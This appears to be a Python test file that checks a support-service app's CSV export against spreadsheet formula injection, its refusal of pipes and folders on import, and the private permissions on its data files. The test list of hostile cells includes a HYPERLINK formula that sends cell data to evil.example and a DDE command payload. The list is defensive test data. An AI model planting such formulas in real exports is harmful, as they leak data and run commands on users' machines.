"""Files the app writes and reads: CSV cells that a spreadsheet would run as formulas are
neutralised, inputs that are not regular files are refused without hanging, and everything the
app creates in the data directory is private (issue 10, item 13)."""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
from pathlib import Path

import pytest

from supportline import backup, cli
from supportline.csv_out import csv_text, safe_cell
from supportline.errors import NotARegularFile
from supportline.importer import import_clients
from supportline.paths import LOCK_FILE, file_lock
from supportline.session import unlock
from supportline.statistics.catalogue import TableOutput
from supportline.statistics.protection import protect_table as protect
from tests.conftest import ADMIN_PASSWORD

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]

posix_only = pytest.mark.skipif(os.name == "nt", reason="POSIX modes and FIFOs")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_no_exported_cell_starts_a_formula() -> None:
    rows = [*HOSTILE, "Alpha School"]
    counts = {(row, "counselling"): 20 + index for index, row in enumerate(rows)}
    table = protect(rows, ["counselling"], counts)
    text = TableOutput("usage_by_organisation", "t", "2026Q1", table, "").csv()
    cells = [cell for record in csv.reader(io.StringIO(text)) for cell in record]
    assert cells, "the export is empty"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for name in HOSTILE:
        assert "'" + name.replace("\r", "\n") in cells  # kept readable, shown as text
    assert "Alpha School" in cells


def test_the_shared_writer_leaves_ordinary_cells_alone() -> None:
    assert safe_cell("Kent County Council") == "Kent County Council"
    assert safe_cell(25) == "25"
    assert safe_cell(None) == ""
    assert csv_text(["a"], [["=1"]]) == "a\n'=1\n"
    assert csv_text(["a"], [["x\ry"]]) == 'a\n"x\ny"\n'  # one cell, not a second row


@posix_only
def test_import_clients_refuses_a_fifo_without_hanging(data_dir: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "clients.csv"
    os.mkfifo(fifo)
    session = unlock(data_dir, "admin", ADMIN_PASSWORD)
    outcome: list[BaseException | object] = []

    def attempt() -> None:
        try:
            outcome.append(import_clients(session, fifo))
        except BaseException as exc:  # noqa: BLE001 - the test reports whatever happened
            outcome.append(exc)

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    worker.join(timeout=30)
    if worker.is_alive():
        # Unblock the stuck reader (a writer that closes at once: end of file) before failing.
        os.close(os.open(fifo, os.O_WRONLY))
        worker.join(timeout=30)
        session.close()
        pytest.fail("import clients hung on a FIFO")
    session.close()
    assert len(outcome) == 1 and isinstance(outcome[0], NotARegularFile)


@posix_only
def test_cli_import_of_a_fifo_or_a_folder_is_one_clear_line(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    monkeypatch.setenv(cli.PASSWORD_ENV, ADMIN_PASSWORD)
    fifo = tmp_path / "clients.csv"
    os.mkfifo(fifo)
    user = ["--data-dir", str(data_dir), "--user", "admin"]
    for target in (fifo, tmp_path):
        code = cli.main(["import", "clients", str(target), *user])
        out, err = capsys.readouterr()
        assert code != 0
        assert "Traceback" not in out + err
        assert err.strip().splitlines() == [
            "supportline: refused: that is not an ordinary file (a pipe, device or folder); "
            "nothing was read or changed"
        ]


@posix_only
def test_restore_refuses_a_fifo(data_dir: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "backup.slbk"
    os.mkfifo(fifo)
    with pytest.raises(NotARegularFile):
        backup.check_backup(data_dir, fifo, "admin", ADMIN_PASSWORD)


@posix_only
def test_everything_created_in_the_data_directory_is_private(
    data_dir: Path, tmp_path: Path
) -> None:
    old_umask = os.umask(0o022)  # a typical desktop umask: new files 0644, folders 0755
    try:
        session = unlock(data_dir, "admin", ADMIN_PASSWORD)
        try:
            out = data_dir / "backups" / "manual" / "today.slbk"
            backup.create_backup(session, out)
        finally:
            session.close()
        plan = backup.check_backup(data_dir, out, "admin", ADMIN_PASSWORD)
        kept = backup.restore(plan, data_dir)
    finally:
        os.umask(old_umask)
    assert kept is not None
    assert _mode(data_dir / "backups") == 0o700
    assert _mode(data_dir / "backups" / "manual") == 0o700
    assert _mode(kept) == 0o700
    assert _mode(out) == 0o600
    assert _mode(data_dir / LOCK_FILE) == 0o600
    for path in data_dir.rglob("*"):
        expected = 0o700 if path.is_dir() else 0o600
        assert _mode(path) & 0o077 == 0, (path, oct(_mode(path)), oct(expected))


@posix_only
def test_a_lock_file_left_world_readable_is_made_private(tmp_path: Path) -> None:
    lock = tmp_path / LOCK_FILE
    lock.touch(mode=0o644)
    os.chmod(lock, 0o644)
    with file_lock(lock):
        pass
    assert _mode(lock) == 0o600
